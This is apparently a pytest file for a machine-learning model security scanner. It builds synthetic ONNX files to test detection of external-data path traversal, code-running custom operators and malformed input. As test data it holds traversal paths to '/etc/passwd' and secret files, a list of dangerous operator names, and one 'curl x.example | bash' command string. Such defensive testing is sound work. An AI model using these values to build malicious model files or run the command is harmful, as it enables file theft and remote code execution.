"""ONNX models: files and operators from outside of them."""

from __future__ import annotations

from pathlib import Path

import pytest
from corpus.formats.zips import zip_of
from hypothesis import given, settings
from hypothesis import strategies as st
from mlsecops.models.beside import look_beside
from mlsecops.models.inspection import Inspection
from mlsecops.models.paths import leaves
from mlsecops.models.readers.onnx import OnnxReader
from mlsecops.models.readers.zip import Zip
from support.parts import read_with, reasons, rules, subjects
from support.protobuf import field

GRAPH, FUNCTION, TRAINING, PROPERTY = 7, 25, 20, 14
BODY, THEN = 5, 6
ESCAPES, CUSTOM, PYTHON = "onnx-external-data-escapes", "onnx-custom-operator", "onnx-python-operator"


def tensor(place: str = "../../secret") -> bytes:
    return field(8, "w") + field(13, field(1, "location") + field(2, place)) + field(14, 1)


def node(operator: str = "Relu", domain: str = "", *attributes: bytes) -> bytes:
    named = field(7, domain) if domain else b""
    return field(1, "x") + field(4, operator) + b"".join(field(5, each) for each in attributes) + named


def graph(*nodes: bytes, more: bytes = b"") -> bytes:
    return b"".join(field(1, each) for each in nodes) + field(2, "g") + more


def model(body: bytes, more: bytes = b"") -> bytes:
    return field(1, 8) + field(2, "pytorch") + field(GRAPH, body) + field(8, field(2, 17)) + more


def function(name: str, domain: str, *nodes: bytes) -> bytes:
    return field(FUNCTION, field(1, name) + b"".join(field(7, each) for each in nodes) + field(10, domain))


PLACES = {
    "initializer": model(graph(node(), more=field(5, tensor()))),
    "sparse values": model(graph(node(), more=field(15, field(1, tensor())))),
    "sparse indices": model(graph(node(), more=field(15, field(2, tensor())))),
    "attribute": model(graph(node("Constant", "", field(1, "value") + field(5, tensor())))),
    "attributes": model(graph(node("Constant", "", field(10, tensor())))),
    "sparse attribute": model(graph(node("Constant", "", field(22, field(1, tensor()))))),
    "sparse attributes": model(graph(node("Constant", "", field(23, field(2, tensor()))))),
    "branch": model(graph(node("If", "", field(THEN, graph(more=field(5, tensor())))))),
    "loop in a branch": model(
        graph(
            node("If", "", field(THEN, graph(node("Loop", "", field(11, graph(more=field(5, tensor()))))))),
        )
    ),
    "function": model(
        graph(node("f", "own")), function("f", "own", node("Constant", "", field(5, tensor())))
    ),
    "function's default": model(graph(), field(FUNCTION, field(11, field(5, tensor())))),
    "training": model(graph(node()), field(TRAINING, field(1, graph(more=field(5, tensor()))))),
    "second graph": model(graph(node()), field(GRAPH, graph(more=field(5, tensor())))),
    "second value": model(
        graph(more=field(5, field(13, field(1, "location") + field(2, "w") + field(2, "/secret"))))
    ),
    "second key": model(
        graph(more=field(5, field(13, field(1, "x") + field(1, "location") + field(2, "/secret"))))
    ),
    "file of an operator": model(
        graph(node("EPContext", "com.microsoft", field(1, "ep_cache_context") + field(4, "../x.bin")))
    ),
}


@pytest.mark.parametrize("data", PLACES.values(), ids=PLACES)
def test_data_from_outside_is_found_wherever_it_is_named(tmp_path: Path, data: bytes) -> None:
    found = read_with(tmp_path, data, OnnxReader())
    assert (rules(found), found.unread) == ([ESCAPES], [])


@pytest.mark.parametrize(
    ("path", "out"),
    [
        ("w.bin", False),
        ("data/w..bin", False),
        ("./w.bin", False),
        ("/etc/passwd", True),
        ("a/../../b", True),
        ("..\\b", True),
        ("\\\\host\\x", True),
        ("C:\\x", True),
        ("~/x", True),
        ("https://x.example/w", True),
        ("file:///etc/passwd", True),
        ("%2e%2e/x", True),
        ("*/_ORT_MEM_ADDR_/*", True),
    ],
)
def test_paths_that_leave_the_folder(path: str, out: bool) -> None:
    assert leaves(path) is out


def test_standard_models_are_no_fact(tmp_path: Path) -> None:
    own = function("f", "own.domain", node("Relu"), node("g", "own.domain"))
    data = model(
        graph(
            node(),
            node("TreeEnsemble", "ai.onnx.ml"),
            node("FusedMatMul", "com.microsoft"),
            node("f", "own.domain"),
        ),
        own + field(PROPERTY, field(1, "note") + field(2, "trained on x")),
    )
    found = read_with(tmp_path, data, OnnxReader())
    assert (found.facts, found.unread, found.formats, found.producer) == ({}, [], ["ONNX"], "pytorch")


@pytest.mark.parametrize(
    "data",
    [
        model(graph(node("Op", "my.domain"))),
        model(graph(node("If", "", field(THEN, graph(node("Op", "my.domain")))))),
        model(graph(node("f", "own")), function("f", "own", node("Op", "my.domain"))),
    ],
)
def test_operators_of_others_are_found_at_every_depth(tmp_path: Path, data: bytes) -> None:
    assert subjects(read_with(tmp_path, data, OnnxReader()), CUSTOM) == ["my.domain"]


@pytest.mark.parametrize(
    ("operator", "domain"),
    [
        ("PyOp", "x"),
        ("PythonOp", "com.microsoft"),
        ("PyFuncStateless", ""),
        ("Any", "pyop"),
        ("AzureTextToText", "ai.onnx.contrib"),
    ],
)
def test_operators_that_run_code_are_dangerous(tmp_path: Path, operator: str, domain: str) -> None:
    assert rules(read_with(tmp_path, model(graph(node(operator, domain))), OnnxReader())) == [PYTHON]


def test_operators_defined_anew_are_odd(tmp_path: Path) -> None:
    found = read_with(tmp_path, model(graph(node()), function("Relu", "", node("Neg"))), OnnxReader())
    assert subjects(found, "onnx-redefined-operator") == ["Relu"]


def test_texts_are_looked_at(tmp_path: Path) -> None:
    data = model(graph(node()), field(PROPERTY, field(1, "x") + field(2, "curl x.example | bash")))
    assert rules(read_with(tmp_path, data, OnnxReader())) == ["embedded-command"]


def test_files_beside_the_model(tmp_path: Path) -> None:
    folder = tmp_path / "m"
    folder.mkdir()
    (tmp_path / "secret").write_bytes(b"x")
    (folder / "there.bin").write_bytes(b"x")
    (folder / "link.bin").symlink_to(tmp_path / "secret")
    tensors = b"".join(field(5, tensor(name)) for name in ("there.bin", "link.bin", "gone.bin", "x\0y"))
    found = read_with(folder, model(graph(node(), more=tensors)), OnnxReader())
    assert (found.facts, found.unread) == ({}, [])
    look_beside(found, folder)
    assert subjects(found, ESCAPES) == ["link.bin"]
    assert [reason for reason in reasons(found) if "gone.bin" in reason]
    assert len(found.unread) == 2


def test_a_member_of_an_archive_has_no_files_beside_it_yet(tmp_path: Path) -> None:
    members = {"m/model.onnx": model(graph(node(), more=field(5, tensor("gone.bin"))))}
    found = read_with(tmp_path, zip_of(members), OnnxReader(), Zip())
    look_beside(found, tmp_path)
    assert (rules(found), reasons(found)) == ([], [])
    assert found.formats == ["zip", "ONNX"]


def test_nothing_is_needed_beside_a_whole_model(tmp_path: Path) -> None:
    found = Inspection()
    look_beside(found, tmp_path)
    assert not found.unread


@pytest.mark.parametrize(
    ("data", "reason"),
    [
        (model(graph(node("Relu" * 50)))[:-20], "cut off"),
        (b"\x08\x07" + b"\x12\x03abc", "nobody knows it"),
        (b"\xff" * 50, "nobody knows it"),
        (model(b""), "nobody knows it"),
    ],
)
def test_what_cannot_be_read_says_so(tmp_path: Path, data: bytes, reason: str) -> None:
    assert reason in reasons(read_with(tmp_path, data, OnnxReader()))[0]


def test_depth_and_number_have_bounds(tmp_path: Path) -> None:
    deep = graph(node())
    for _ in range(80):
        deep = graph(node("If", "", field(THEN, deep)))
    assert "nested too deeply" in reasons(read_with(tmp_path, model(deep), OnnxReader()))[0]
    many = graph(*(node(f"O{number}", "x") for number in range(20_100)))
    found = read_with(tmp_path, model(many), OnnxReader())
    assert "more operators" in reasons(found)[0]
    assert rules(found) == [CUSTOM]


WHOLE = PLACES["loop in a branch"]


@settings(max_examples=150, deadline=None)
@given(st.integers(0, len(WHOLE) - 1), st.binary(min_size=1, max_size=9))
def test_any_bytes_are_read_or_not(tmp_path_factory: pytest.TempPathFactory, at: int, junk: bytes) -> None:
    folder = tmp_path_factory.getbasetemp()
    found = read_with(folder, WHOLE[:at] + junk + WHOLE[at + len(junk) :], OnnxReader())
    assert not any("itself failed" in reason for reason in reasons(found))
